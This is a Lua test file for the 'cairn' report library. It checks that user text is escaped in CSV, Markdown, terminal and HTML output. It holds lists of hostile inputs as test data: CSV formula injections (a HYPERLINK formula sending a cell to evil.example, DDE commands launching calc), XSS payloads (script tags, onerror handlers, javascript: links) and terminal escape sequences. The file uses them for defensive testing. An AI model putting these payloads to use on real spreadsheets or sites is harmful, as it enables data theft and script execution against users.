-- Escaping: formula injection in CSV, Markdown specials in user text, raw HTML in Markdown
-- paragraphs. Every case is checked against what a spreadsheet or Markdown engine would do.
local t = require "tap"
local report = require "cairn.report"
local render = require "cairn.render"

-- ---- CSV formula injection (OWASP's list, and the variants spreadsheets accept) ----------

local function csv_of(values)
  local rows = {}
  for i, v in ipairs(values) do rows[i] = { v = v } end
  local doc = report.new { title = "x", theme = {} }
  doc:table { id = "t", columns = { { id = "v", label = "v" } }, rows = rows }
  return render.csv(doc.blocks[1])
end

-- Minimal RFC 4180 reader, to check what a spreadsheet would receive.
local function parse_csv(s)
  local rows, row, field, i, quoted = {}, {}, {}, 1, false
  while i <= #s do
    local c = s:sub(i, i)
    if quoted then
      if c == '"' then
        if s:sub(i + 1, i + 1) == '"' then field[#field + 1] = '"'; i = i + 1 else quoted = false end
      else field[#field + 1] = c end
    elseif c == '"' then quoted = true
    elseif c == "," then row[#row + 1] = table.concat(field); field = {}
    elseif c == "\r" and s:sub(i + 1, i + 1) == "\n" then
      row[#row + 1] = table.concat(field); rows[#rows + 1] = row; row, field = {}, {}; i = i + 1
    else field[#field + 1] = c end
    i = i + 1
  end
  return rows
end

local corpus = {
  "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-1+1", "@SUM(A1:A2)",
  "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
  "@Hyperlink(\"http://x\")", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
  "==1", "=-1", "-", "=", "+", "@", "=\"quoted, with comma\"", "-\n=1",
}
local out = csv_of(corpus)
local rows = parse_csv(out)
t.is(#rows, #corpus + 1, "every corpus value is one CSV record (quotes, commas and newlines kept inside)")
for i, v in ipairs(corpus) do
  local got = rows[i + 1] and rows[i + 1][1]
  t.is(got, "'" .. v, string.format("formula-looking %s is neutralised with an apostrophe",
    (string.format("%q", v):gsub("\\\n", "\\n"):gsub("\r", "\\r"))))
end

local safe = { "1+1", "a=b", "Email me @ noon", " =1", "Ruiz, J.", "say \"hi\"", "", "x-1" }
rows = parse_csv(csv_of(safe))
for i, v in ipairs(safe) do
  t.is(rows[i + 1][1], v, string.format("ordinary text %q is kept as it is", v))
end
t.ok(csv_of({ " padded " }):find('" padded "', 1, true), "leading/trailing spaces are quoted")

-- numbers are data, never neutralised; header labels are user text too
local doc = report.new { title = "x", theme = {} }
doc:table { id = "n", columns = { { id = "a", label = "=Label" }, { id = "b", label = "n", format = "number" } },
  rows = { { a = "-5", b = -5 }, { a = "x", b = -0.25 } } }
t.is(render.csv(doc.blocks[1]), "'=Label,n\r\n'-5,-5\r\nx,-0.25\r\n",
  "numbers stay numbers (-5); text '-5' and a formula label are neutralised")
t.ok(render.csv(doc.blocks[1], { bom = true }):sub(1, 3) == "\xEF\xBB\xBF", "bom = true adds a UTF-8 byte order mark")

-- totals and display overrides
doc = report.new { title = "x", theme = {} }
doc:table { id = "d", columns = { { id = "a" }, { id = "b", format = "integer" } },
  rows = { { a = "x", b = { value = 3, display = "=three" } } }, totals = { a = "Total", b = 3 } }
t.is(render.csv(doc.blocks[1]), "a,b\r\nx,'=three\r\nTotal,3\r\n", "a display override is text and is neutralised")
t.is(render.csv(doc.blocks[1], { totals = false }), "a,b\r\nx,'=three\r\n", "totals = false leaves the totals row out")
t.raises(function() render.csv { type = "paragraph", text = "x" } end, "expected a table block", "csv wants a table block")

-- ---- Markdown --------------------------------------------------------------------------

local function md_cell(s)
  local d = report.new { title = "x", theme = {} }
  d:table { columns = { { id = "v", label = "v" } }, rows = { { v = s } } }
  local last = d:render("markdown"):match("([^\n]*)\n?$")
  return last:match("^| (.*) |$")
end

t.is(md_cell("a | b"), "a \\| b", "a pipe cannot end a table cell")
t.is(md_cell("**bold** _it_ `code`"), "\\*\\*bold\\*\\* \\_it\\_ \\`code\\`", "emphasis and code markers are escaped")
t.is(md_cell("[click](javascript:alert(1))"), "\\[click\\](javascript:alert(1))", "links cannot be formed")
t.is(md_cell("![img](http://x/y.png)"), "!\\[img\\](http://x/y.png)", "images cannot be formed (the bracket is escaped)")
t.is(md_cell("<script>alert(1)</script>"), "\\<script>alert(1)\\</script>", "raw HTML in a cell is text (tag openers escaped)")
t.is(md_cell("&lt; &amp; &#60;"), "\\&lt; \\&amp; \\&#60;", "entities show as typed")
t.is(md_cell("line one\nline two"), "line one line two", "newlines in a cell become spaces")
t.is(md_cell("~~gone~~ back\\slash"), "\\~\\~gone\\~\\~ back\\\\slash", "strike-through and backslashes are escaped")

local function md_item(s)
  local d = report.new { title = "x", theme = {} }
  d:list { s }
  return d:render("markdown"):match("\n%- (.-)\n?$")
end
t.is(md_item("# not a heading"), "\\# not a heading", "a leading # does not make a heading")
t.is(md_item("- not nested"), "\\- not nested", "a leading - does not make a nested list")
t.is(md_item("+ plus"), "\\+ plus", "a leading + does not make a list")
t.is(md_item("1. not numbered"), "1\\. not numbered", "a leading 1. does not make a numbered list")
t.is(md_item("> not quoted"), "\\> not quoted", "a leading > does not make a quote")
t.is(md_item("    indented"), "indented", "leading blanks cannot make a code block")

local d = report.new { title = "# Title *x*", subtitle = "<i>sub</i>", theme = {} }
d:section("Section | one")
d:paragraph("Markdown **stays**, <img src=x onerror=alert(1)> does not, a < b stays, <!-- c -->")
local md = d:render("markdown")
t.ok(md:find("# # Title \\*x\\*\n", 1, true), "the title is escaped (a # after the heading marker is text)")
t.ok(md:find("**\\<i>sub\\</i>**", 1, true), "the subtitle is escaped")
t.ok(md:find("## Section | one", 1, true), "a pipe in a section title stays as typed (no table there)")
t.ok(md:find("Markdown **stays**, \\<img src=x onerror=alert(1)> does not, a < b stays, \\<!-- c -->", 1, true),
  "paragraph Markdown passes; HTML openers are escaped")
local unescaped = md:gsub("\\<", "")
t.ok(not unescaped:find("<img", 1, true) and not unescaped:find("<i>", 1, true) and not unescaped:find("<!--", 1, true),
  "no raw HTML tag reaches the Markdown")

-- callouts
d = report.new { title = "x", theme = {} }
d:callout("warning", "Line one\nline <b>two</b>", { title = "Heads *up*" })
t.ok(d:render("markdown"):find("> [!WARNING]\n> **Heads \\*up\\***\n>\n> Line one\n> line \\<b>two\\</b>", 1, true),
  "callouts are GitHub alerts with every line quoted")

-- chart labels cannot break out of the text-bar code block
local fence = report.new { title = "x", theme = {} }
fence:chart { kind = "bar", title = "Fence", data = { { label = "```", value = 1 },
  { label = "<script>alert(1)</script>\n# heading", value = 2 } } }
local fmd = fence:render("markdown")
t.ok(fmd:find("\n    ```  ", 1, true) and fmd:find("\n    <script>alert(1)</scrip\u{2026}  #", 1, true),
  "bar lines are an indented code block, labels cut and on one line")
t.ok(not fmd:find("\n# heading", 1, true), "a newline in a label cannot start a Markdown line")

-- ---- terminal safety: no control character from user text reaches the terminal -------------
local term = report.new { title = "Title\27]0;owned\7", theme = {} }
term:paragraph("red \27[31mtext\27[0m, bell\7, backspace\8, CSI \194\155 31m")
term:table { columns = { "a" }, rows = { { a = "cell\27[2J" } } }
local txt = term:render("text")
t.ok(not txt:find("[\0-\9\11-\31\127]") and not txt:find("\194[\128-\159]"),
  "escape sequences, bells, backspaces and C1 controls are removed from text output")
t.ok(txt:find("red ?[31mtext?[0m", 1, true), "what remains is visible text")

-- ---- the Markdown output through a Markdown engine with raw HTML allowed -----------------
-- Whatever user text holds, cmark-gfm --unsafe (which passes raw HTML and any link scheme)
-- must produce only the structural tags cairn's Markdown asks for, and only web links.
local xss = {
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
  "<iframe src=\"javascript:alert(1)\"></iframe>", "[click](javascript:alert(1))",
  "[click]( JavaScript:alert(1) )", "<a href=\"javascript:alert(1)\">x</a>", "![x](data:text/html,<script>alert(1)</script>)",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<javascript:alert(1)>", "[ref]: javascript:alert(1)",
  "<!-- comment --><style>body{}</style>", "</td></tr></table><script>x</script>", "**<b>bold</b>**",
  "`<code>`", "<details open ontoggle=alert(1)>", "x | <b>y</b> |",
}
local doc3 = report.new { title = xss[1], subtitle = xss[2], district = xss[3], period = "2026-11", theme = {} }
local sec = doc3:section(xss[4])
for _, v in ipairs(xss) do sec:paragraph(v) end
sec:keyvalue({ { xss[5], xss[6] }, { xss[7], xss[8] } }, { caption = xss[9] })
local rows = {}
for i, v in ipairs(xss) do rows[i] = { a = v, b = xss[#xss - i + 1] } end
sec:table { caption = xss[10], columns = { { id = "a", label = xss[11] }, { id = "b", label = xss[12] } },
  rows = rows, notes = { xss[13], xss[14] } }
sec:list(xss)
sec:list(xss, { markdown = true })
sec:checklist { { text = xss[15], checked = true } }
sec:callout("warning", xss[16], { title = xss[17] })
sec:chart { kind = "bar", title = xss[18], data = { { label = xss[1], value = 1 }, { label = xss[2], value = 2 } } }
sec:chart { kind = "fishbone", title = xss[3], problem = xss[4], data = { { category = xss[5], causes = { xss[6], xss[7] } } } }
local mdfile = os.tmpname()
local fh = assert(io.open(mdfile, "wb"))
fh:write(doc3:render("markdown"))
fh:close()
local p = io.popen("cmark-gfm --unsafe -e table -e tasklist -e strikethrough -e autolink " .. mdfile .. " 2>/dev/null")
local html = p:read("a")
p:close()
os.remove(mdfile)
if html == "" then
  t.skip(3, "cmark-gfm is not installed (scripts/install-deps --test installs it)")
else
  local allowed = {}
  for tag in ("h1 h2 h3 h4 h5 h6 p strong em ul ol li table thead tbody tr th td blockquote code pre hr input del a br")
      :gmatch("%S+") do allowed[tag] = true end
  local bad = {}
  for slash, tag, attrs in html:gmatch("<(/?)([%w!%-]+)([^>]*)>") do
    tag = tag:lower()
    if not allowed[tag] then bad[#bad + 1] = "<" .. slash .. tag .. attrs .. ">" end
    if attrs:lower():find("%son%a+%s*=") then bad[#bad + 1] = "event handler in <" .. tag .. attrs .. ">" end
    local href = attrs:match('href="([^"]*)"')
    if href and not (href:match("^https?://") or href:match("^mailto:")) then bad[#bad + 1] = "link to " .. href end
    local src = attrs:match('src="([^"]*)"')
    if src then bad[#bad + 1] = "src " .. src end
  end
  t.is(table.concat(bad, "\n"), "", "nothing executable survives Markdown rendering with raw HTML allowed")
  t.ok(html:find("&lt;script&gt;alert(1)&lt;/script&gt;", 1, true), "the script text is shown as text")
  t.ok(html:find("<table>", 1, true) and html:find("<blockquote>", 1, true), "tables and callouts still render")
end

-- ---- escaping only what changes the meaning where it stands --------------------------------
t.is(md_cell("1.1"), "1.1", "a number-like cell is not escaped")
t.is(md_cell("#27"), "#27", "# in a cell is text")
t.is(md_cell("->"), "->", "an arrow in a cell is text")
t.is(md_cell("+4.2"), "+4.2", "a signed number in a cell is text")
t.is(md_cell("- x"), "- x", "nothing starts a block inside a cell")
t.is(md_cell("plan_item a&b 50%"), "plan_item a&b 50%", "underscores inside words, lone & and % stay")
t.is(md_item("1.1"), "1.1", "1.1 cannot start a numbered list: kept")
t.is(md_item("-> next"), "-> next", "-> cannot start a list: kept")
t.is(md_item("+4.2"), "+4.2", "+4.2 cannot start a list: kept")
t.is(md_item("---"), "\\---", "--- would be a rule: escaped")
t.is(md_item("a > b # c"), "a > b # c", "> and # inside a line are text")

local kv = report.new { title = "x", theme = {} }
kv:keyvalue { { "Done?", "yes" }, { "Owner", "Ruiz" }, { "Note:", "n" } }
local kvmd = kv:render("markdown")
t.ok(kvmd:find("- **Done?** yes\n", 1, true) and kvmd:find("- **Owner:** Ruiz\n", 1, true)
  and kvmd:find("- **Note:** n\n", 1, true), "a key ending in ? or : gets no second colon")
t.ok(kv:render("text"):find("\nDone?   yes\nOwner:  Ruiz\nNote:   n\n", 1, true), "the text renderer too, values aligned")

for _, build in ipairs {
  function(x) x:paragraph("p") end, function(x) x:list { "i" } end, function(x) x:pagebreak() end,
  function(x) x:table { columns = { "a" }, rows = { { a = 1 } }, notes = { "n" } } end,
  function(x) x:callout("note", "c\n\n") end, function(x) x:section("s") end, function() end,
} do
  local d2 = report.new { title = "x", theme = {} }
  build(d2)
  local out = d2:render("markdown")
  t.ok(out:sub(-1) == "\n" and out:sub(-2) ~= "\n\n", "the Markdown ends with one newline: " .. out:gsub("\n", "|"))
end

-- inline Markdown in list items, when the author asks for it
local ml = report.new { title = "x", theme = {} }
ml:list({ "**bold** and [a link](http://x.org)", "# not a heading", "* not nested", "<b>x</b> [js](javascript:alert(1))" },
  { markdown = true })
local mlmd = ml:render("markdown")
t.ok(mlmd:find("- **bold** and [a link](http://x.org)\n", 1, true), "a Markdown list item keeps its Markdown")
t.ok(mlmd:find("- \\# not a heading\n", 1, true) and mlmd:find("- \\* not nested\n", 1, true),
  "a Markdown list item still cannot start a block")
t.ok(mlmd:find("- \\<b>x\\</b> [js\\](javascript:alert(1))\n", 1, true), "no HTML and no unsafe link from a Markdown item")
t.ok(ml:render("text"):find("- bold and a link (http://x.org)\n", 1, true), "the terminal shows it as plain text")
local mlhtml = ml:render("html")
t.ok(mlhtml:find("<li><strong>bold</strong> and <a href=\"http://x.org\">a link</a></li>", 1, true)
  and mlhtml:find("<li># not a heading</li>", 1, true), "HTML renders the item's inline Markdown")
t.raises(function() ml:list({ "a" }, { markdown = "yes" }) end, "markdown must be true or false",
  "markdown must be a boolean")
t.is(report.new { title = "x", theme = {} }:list { "*a*" }:render("markdown"):match("\n%- (.-)\n?$"), "\\*a\\*",
  "without markdown = true an item shows as typed")

-- round trip: what a Markdown engine shows is exactly the text that was typed
local corpus = { "1.1", "#27", "->", "+4.2", "0.0", "a | b", "**bold**", "_it_", "plan_item", "x_", "`code`",
  "[x](http://y)", "![i](x)", "<b>x</b>", "&amp; &#60; &#x3C;", "a < b", "~~s~~", "~x~", "back\\slash", "50%",
  "C#", "Title #", "- x", "+ y", "1. y", "2) z", "> q", "---", "- - -", "#tag", "# h", "&", "a&b", "* x", "\\*",
  "2*3", "snake_case_name", "<http://x>", "a\\|b", "[ref]: http://x", "```", "    code", "=", "==", "<!-- c -->" }
local rt = report.new { title = "x", theme = {} }
local rtrows = {}
for i, v in ipairs(corpus) do rtrows[i] = { v = v } end
rt:table { columns = { { id = "v", label = "v" } }, rows = rtrows }
rt:list(corpus)
for _, v in ipairs(corpus) do rt:section(v) end
local rtfile = os.tmpname()
fh = assert(io.open(rtfile, "wb"))
fh:write(rt:render("markdown"))
fh:close()
p = io.popen("cmark-gfm -e table -e strikethrough " .. rtfile .. " 2>/dev/null")
local rthtml = p:read("a")
p:close()
os.remove(rtfile)
if rthtml == "" then
  t.skip(3, "cmark-gfm is not installed (scripts/install-deps --test installs it)")
else
  local function unhtml(x)
    return (x:gsub("&lt;", "<"):gsub("&gt;", ">"):gsub("&quot;", '"'):gsub("&amp;", "&"))
  end
  local cells, items, heads = {}, {}, {}
  for c in rthtml:gmatch("<td>(.-)</td>") do cells[#cells + 1] = unhtml(c) end
  for c in rthtml:gmatch("<li>(.-)</li>") do items[#items + 1] = unhtml(c) end
  for c in rthtml:gmatch("<h2>(.-)</h2>") do heads[#heads + 1] = unhtml(c) end
  local want = {}
  for i, v in ipairs(corpus) do want[i] = (v:gsub("^%s+", "")) end
  t.same(cells, want, "every table cell reads back exactly as typed")
  t.same(items, want, "every list item reads back exactly as typed")
  t.same(heads, want, "every section title reads back exactly as typed")
end

t.done()
